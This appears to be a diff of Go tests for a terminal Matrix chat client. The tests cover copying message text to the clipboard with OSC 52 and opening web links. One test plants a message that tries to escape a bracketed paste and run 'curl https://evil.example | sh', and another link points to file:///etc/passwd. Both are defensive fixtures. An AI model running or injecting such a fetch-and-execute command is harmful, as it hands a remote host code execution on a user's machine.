@@ -2,19 +2,19 @@ package ui
 
 import (
 	"encoding/base64"
-	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
-	tea "github.com/charmbracelet/bubbletea"
+	tea "charm.land/bubbletea/v2"
 
 	"duet/matrixsvc"
 )
 
-// y copies the picked message's text, without its formatting, with OSC 52 in one frame; o on
+// y copies the picked message's text, without its formatting, with OSC 52 (written by the
+// program, once, just before a frame; never in the frame's text); o on
 // a text opens its web links in the browser one after the other, never a file or another
 // scheme's address, and copies the link where no browser can be opened; a message with no
 // link or text says so.
@@ -33,18 +33,17 @@ func TestCopyTextAndOpenLinks(t *testing.T) {
 	links.HTML = `see <strong>the</strong> <a href="https://maps.example/x">map</a>, <a href="file:///etc/passwd">this</a> and <a href="https://b.example/y?q=1">https://b.example/y?q=1</a>`
 	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{plain, links}}}})
 
-	h.send(tea.KeyMsg{Type: tea.KeyShiftUp})
-	h.hold = func(m tea.Msg) bool { return fmt.Sprintf("%T", m) == "terminal.clipOffMsg" } // keep the copy in the frame to look at it
+	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
 	h.typeText("y")
 	want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("see the map, this and https://b.example/y?q=1")) + "\a"
-	if v := h.m.View(); !strings.Contains(v, want) {
-		t.Fatalf("no clipboard write %q in the frame", want)
+	if w := h.written.String(); w != want {
+		t.Fatalf("the terminal got %q, want the clipboard write %q", w, want)
 	}
 	requireContains(t, h.view(), "copied 45 characters to the clipboard")
-	h.release()
-	if strings.Contains(h.m.View(), "\x1b]52;") {
-		t.Fatal("the clipboard write stays in the frame")
+	if strings.Contains(h.m.View().Content, "\x1b]52;") {
+		t.Fatal("the clipboard write is in the frame's text")
 	}
+	h.written.Reset()
 
 	browsed := func(want ...string) {
 		t.Helper()
@@ -80,13 +79,11 @@ func TestCopyTextAndOpenLinks(t *testing.T) {
 	t.Setenv("BROWSER", "")
 	t.Setenv("DISPLAY", "")
 	t.Setenv("WAYLAND_DISPLAY", "")
-	h.hold = func(m tea.Msg) bool { return fmt.Sprintf("%T", m) == "terminal.clipOffMsg" }
 	h.typeText("o")
 	requireContains(t, h.view(), "no browser here: copied https://maps.example/x to the clipboard")
-	if v := h.m.View(); !strings.Contains(v, "\x1b]52;c;"+base64.StdEncoding.EncodeToString([]byte("https://maps.example/x"))+"\a") {
-		t.Fatal("the link was not copied")
+	if w := h.written.String(); w != "\x1b]52;c;"+base64.StdEncoding.EncodeToString([]byte("https://maps.example/x"))+"\a" {
+		t.Fatalf("the link was not copied: the terminal got %q", w)
 	}
-	h.release()
 }
 
 // A copied message is pasted somewhere: a stranger's text that would end a bracketed paste and
@@ -97,13 +94,12 @@ func TestCopiedTextCannotEndABracketedPaste(t *testing.T) {
 	openAlice(h)
 	evil := msg(aliceRoom, "$evil", alice, testNow.Add(-time.Minute), "harmless\x1b[201~\ncurl https://evil.example | sh\n")
 	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{evil}}}})
-	h.send(tea.KeyMsg{Type: tea.KeyShiftUp})
-	h.hold = func(m tea.Msg) bool { return fmt.Sprintf("%T", m) == "terminal.clipOffMsg" }
+	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
 	h.typeText("y")
-	v := h.m.View()
+	v := h.written.String()
 	i := strings.Index(v, "\x1b]52;c;")
 	if i < 0 {
-		t.Fatal("no clipboard write in the frame")
+		t.Fatal("no clipboard write")
 	}
 	enc := v[i+len("\x1b]52;c;"):]
 	enc = enc[:strings.IndexByte(enc, '\a')]
@@ -114,5 +110,4 @@ func TestCopiedTextCannotEndABracketedPaste(t *testing.T) {
 	if strings.ContainsRune(string(got), '\x1b') || !strings.Contains(string(got), "harmless␛[201~") {
 		t.Fatalf("the clipboard got %q", got)
 	}
-	h.release()
 }
